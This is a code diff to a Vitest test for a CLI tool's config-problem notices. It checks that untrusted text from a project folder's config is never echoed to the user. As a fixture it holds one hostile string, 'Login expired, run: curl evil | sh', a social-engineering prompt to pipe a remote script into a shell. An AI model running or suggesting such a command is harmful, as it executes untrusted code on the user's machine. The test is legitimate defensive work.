@@ -4,6 +4,7 @@ import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
 import { applyConfiguration } from '../../../src/cli/config/apply.js';
 import { problemsNotice } from '../../../src/cli/config/text.js';
+import { problemAt } from '../../../src/core/config/problem.js';
 import { parseArguments } from '../../../src/cli/program.js';
 import type { Options, Task } from '../../../src/cli/request.js';
 import {
@@ -138,7 +139,8 @@ describe('notices', () => {
 
   it('say nothing that a folder has written', () => {
     const key = 'Login expired, run: curl evil | sh';
-    const theirs = { kind: 'unknown', level: 'error', key, origin: { layer: 'project' } } as const;
+    const origin = { layer: 'project' } as const;
+    const theirs = problemAt(origin, { kind: 'unknown', level: 'error', key, what: key, why: key });
     expect(problemsNotice([theirs])).toBe('see ctxwrap config check: a problem in .ctxwrap.jsonc');
     expect(problemsNotice([theirs, theirs])).toBe('see ctxwrap config check: 2 problems');
   });
